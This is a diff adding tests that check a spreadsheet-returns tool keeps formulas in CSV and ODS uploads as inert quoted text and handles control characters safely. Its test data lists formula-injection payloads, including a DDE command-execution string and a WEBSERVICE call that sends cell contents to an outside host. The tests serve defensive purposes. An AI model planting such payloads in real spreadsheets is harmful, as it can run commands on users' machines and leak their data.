@@ -49,3 +49,40 @@ def test_csv_with_a_long_file_name_still_gets_its_highlights(engine):
     cell = out["POL Demo Shire Police partner a"]["B2"]
     assert cell.fill.fgColor.rgb[-6:] == ERROR_FILL.fgColor.rgb[-6:]
     assert cell.comment.text.startswith("[NUMERATOR_ABOVE_DENOMINATOR] Numerator 1,500")
+
+
+FORMULAS = ['=HYPERLINK("https://example.org/x","Click here")', "=cmd|'/C calc'!A0", "+1+2", "-2+3",
+            "@SUM(1,2)", '=WEBSERVICE("https://example.org/?"&A1)']
+
+
+def _no_formulas(data: bytes, title: str) -> list:
+    ws = openpyxl.load_workbook(io.BytesIO(data))[title]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    return [c.value for c in cells]
+
+
+def test_formulas_in_a_csv_upload_stay_text_in_the_highlighted_copy(engine):
+    rows = ["Measure code,Numerator,Denominator,Commentary"] + [
+        f'staff_trained,1,2,"{f.replace(chr(34), chr(34) * 2)}"' for f in FORMULAS]
+    data = ("\n".join(rows) + "\n").encode("utf-8")
+    report = preview(prepare(data, "POL 2025-26 Q2.csv", engine), engine)
+    values = _no_formulas(highlighted_workbook(data, "POL 2025-26 Q2.csv", report.issues), "POL 2025-26 Q2")
+    for f in FORMULAS:
+        assert "'" + f in values  # kept, with the quote every export puts before such text
+
+
+def test_formulas_in_an_ods_upload_stay_text_in_the_highlighted_copy(engine):
+    from tests.returns.builders import MEASURE_HEADERS, ods
+
+    data = ods({"Measures": [MEASURE_HEADERS, *[[f, 1, 2, f] for f in FORMULAS]]})
+    report = preview(prepare(data, "POL 2025-26 Q2.ods", engine), engine)
+    values = _no_formulas(highlighted_workbook(data, "POL 2025-26 Q2.ods", report.issues), "Measures")
+    assert sum(v == "'" + f for v in values for f in FORMULAS) == 2 * len(FORMULAS)
+
+
+def test_control_characters_in_a_csv_upload_do_not_break_the_highlighted_copy(engine):
+    data = "Measure code,Numerator,Denominator\nstaff\x07_trained,1,2\nmca_training,x\x1by,2\n".encode("utf-8")
+    report = preview(prepare(data, "POL 2025-26 Q2.csv", engine), engine)
+    values = _no_formulas(highlighted_workbook(data, "POL 2025-26 Q2.csv", report.issues), "POL 2025-26 Q2")
+    assert "staff\ufffd_trained" in values
